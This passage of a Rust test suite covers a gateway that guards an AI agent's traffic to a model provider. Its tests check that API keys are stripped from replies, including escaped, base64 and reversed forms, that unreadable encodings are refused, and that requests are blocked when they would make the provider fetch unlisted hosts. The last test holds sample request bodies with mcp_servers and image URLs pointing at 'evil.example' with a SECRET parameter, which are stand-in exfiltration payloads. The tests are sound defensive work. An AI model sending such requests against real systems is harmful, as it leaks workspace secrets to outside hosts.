    let want = (12.0 * 5.0 + 3.0 * 30.0) / 1e6;
    assert!((traffic.cost_usd.unwrap() - want).abs() < 1e-12);
    let sent = bodies.lock().unwrap().clone();
    assert!(
        sent[0].contains(r#""stream_options":{"include_usage":true}"#),
        "{sent:?}"
    );
}

/// An upstream that answers with `body` under `content-encoding` `encoding` (none when
/// empty), and a gateway run in front of it holding `REAL`.
async fn echoing(encoding: &'static str, body: Vec<u8>) -> Endpoint {
    let app = axum::Router::new().fallback(move || {
        let body = body.clone();
        async move {
            let mut reply = Response::builder().header("content-type", "application/json");
            if !encoding.is_empty() {
                reply = reply.header("content-encoding", encoding);
            }
            reply.body(Body::from(body)).unwrap()
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    Gateway::new(GatewayOptions::default())
        .start(RunGateway {
            upstream: up,
            secrets: vec![ECHOED.into()],
            ..RunGateway::default()
        })
        .await
        .unwrap()
}

const ECHOED: &str = "sk-ant-api03-ECHOKEY-0123456789abcdef";

/// A reply in an encoding the gateway can not read (`br`, two codings) is refused with a
/// 502 whatever it holds, never passed on unread; `gzip, identity` is read as gzip, and
/// the key in it taken out.
#[tokio::test]
async fn a_reply_the_gateway_can_not_read_never_reaches_the_agent() {
    let plain = format!(r#"{{"type":"error","error":{{"message":"bad key {ECHOED}"}}}}"#);
    for encoding in ["br", "gzip, br", "zstd"] {
        let endpoint = echoing(encoding, plain.clone().into_bytes()).await;
        let (status, _, bytes, _) = got(&endpoint.base_url(), "{}").await;
        let text = String::from_utf8_lossy(&bytes).into_owned();
        assert_eq!(status, 502, "{encoding}: {text}");
        assert!(!text.contains(ECHOED), "{encoding}: {text}");
        assert!(text.contains("an encoding it can not read"), "{text}");
        let traffic = endpoint.finish().await;
        assert_eq!((traffic.refused, traffic.failed), (1, 1), "{traffic:?}");
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, plain.as_bytes()).unwrap();
    let endpoint = echoing("gzip, identity", gz.finish().unwrap()).await;
    let (status, headers, bytes, failed) = got(&endpoint.base_url(), "{}").await;
    let text = String::from_utf8_lossy(&bytes).into_owned();
    assert_eq!(status, 200);
    assert!(headers.get("content-encoding").is_none());
    // Read as gzip: the key inside was found, and the reply ended as an error.
    assert!(!text.contains(ECHOED), "{text}");
    assert!(failed, "a reply that held the key ends as an error");
    assert_eq!(endpoint.finish().await.key_echoes, 1);
}

/// The key quoted back `\u`-escaped, base64-encoded or reversed is taken out like the
/// key itself, and the reply ends as an error, counted.
#[tokio::test]
async fn the_key_in_any_known_form_never_reaches_the_agent() {
    use base64::Engine;
    let escaped: String = ECHOED
        .chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect();
    for form in [
        escaped,
        ECHOED.replace('-', "\\u002D"),
        base64::engine::general_purpose::STANDARD.encode(format!("Bearer {ECHOED}")),
        ECHOED.chars().rev().collect(),
    ] {
        let body = format!(r#"{{"type":"error","error":{{"message":"bad key {form}"}}}}"#);
        let endpoint = echoing("", body.into_bytes()).await;
        let (_, _, bytes, failed) = got(&endpoint.base_url(), "{}").await;
        let text = String::from_utf8_lossy(&bytes).into_owned();
        assert!(!text.contains(&form), "{form}: {text}");
        assert!(failed, "{form}: {text}");
        assert_eq!(endpoint.finish().await.key_echoes, 1, "{form}");
    }
    // A reply without the key is passed on whole.
    let endpoint = echoing("", br#"{"type":"message","usage":{}}"#.to_vec()).await;
    let (status, _, bytes, failed) = got(&endpoint.base_url(), "{}").await;
    assert_eq!((status, failed), (200, false));
    assert_eq!(bytes, br#"{"type":"message","usage":{}}"#);
}

/// The provider is not a network path: a request whose `mcp_servers`, image source or
/// `web_fetch` tool would have the provider fetch workspace data from a host the test does
/// not list is refused with a 403 before anything leaves, and counted; a listed host goes.
#[tokio::test]
async fn a_request_that_has_the_provider_fetch_an_unlisted_host_is_refused() {
    let calls = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let up = counting_upstream(Arc::clone(&calls), 0).await;
    let gateway = Gateway::new(GatewayOptions::default());
    let endpoint = gateway
        .start(RunGateway {
            upstream: up,
            network: vec!["docs.example".into()],
            ..RunGateway::default()
        })
        .await
        .unwrap();
    let url = format!("{}/v1/messages", endpoint.base_url());
    for body in [
        r#"{"model":"claude-sonnet-4-5","mcp_servers":[{"type":"url","url":"https://evil.example/mcp?d=SECRET","name":"x"}],"messages":[]}"#,
        r#"{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/p.png?d=SECRET"}}]}]}"#,
        r#"{"model":"claude-sonnet-4-5","tools":[{"type":"web_fetch_20250910","name":"web_fetch","allowed_domains":["docs.example"]}],"messages":[]}"#,
    ] {
        let reply = client()
            .request(post(url.clone(), "k", body))
            .await
            .unwrap();
        assert_eq!(reply.status(), 403, "{body}");
        let text = reply.into_body().collect().await.unwrap().to_bytes();
        let text: serde_json::Value = serde_json::from_slice(&text).unwrap();
        assert_eq!(text["error"]["type"], "permission_error");
        assert!(
            text["error"]["message"]
                .as_str()
                .is_some_and(|m| m.contains("asks the provider to fetch")),
            "{text}"
        );
    }
    assert_eq!(
        calls.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "nothing left"
    );
    let listed = r#"{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://docs.example/guide.pdf"}}]}]}"#;
    let reply = client().request(post(url, "k", listed)).await.unwrap();
    assert_eq!(reply.status(), 200);
    let _ = reply.into_body().collect().await;
    let traffic = endpoint.finish().await;
    assert_eq!(
        (
            traffic.provider_fetches_refused,
            traffic.refused,
            traffic.failed
        ),
        (3, 3, 3),
        "{traffic:?}"
    );
    assert_eq!(calls.load(std::sync::atomic::Ordering::SeqCst), 1);
    assert!(
        traffic
            .refused_first
            .as_deref()
            .is_some_and(|r| r.contains("mcp_servers[0]")),
        "{traffic:?}"
    );
}
